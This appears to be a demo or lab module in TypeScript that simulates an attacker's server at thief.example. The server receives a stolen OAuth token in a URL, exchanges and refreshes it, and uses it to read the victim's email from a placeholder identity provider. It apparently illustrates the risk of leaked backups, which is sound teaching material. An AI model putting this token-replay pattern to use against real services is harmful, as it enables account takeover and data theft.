import { exchange } from "./exchange";

/** The token that the thief has now. */
let token = "";

/** A machine of the thief's, with what was in a backup of your server: the database and the secrets. */
export default {
  "https://thief.example": {
    name: "The thief's machine",
    async fetch(request: Request): Promise<Response> {
      token = new URL(request.url).searchParams.get("token") ?? token;
      const answer = await exchange(token);
      if (answer.error !== undefined) return html(`Refused: ${answer.error_description}`);
      token = answer.refresh_token ?? token;
      const profile = await fetch("https://id.acme.example/userinfo", {
        headers: { authorization: `Bearer ${answer.access_token}` },
      });
      return html(`Stolen: ${((await profile.json()) as { email?: string }).email}`);
    },
  },
};

function html(text: string): Response {
  return new Response(`<!doctype html><html lang="en"><title>Thief</title><p>${text}</p></html>`, {
    headers: { "content-type": "text/html; charset=utf-8" },
  });
}
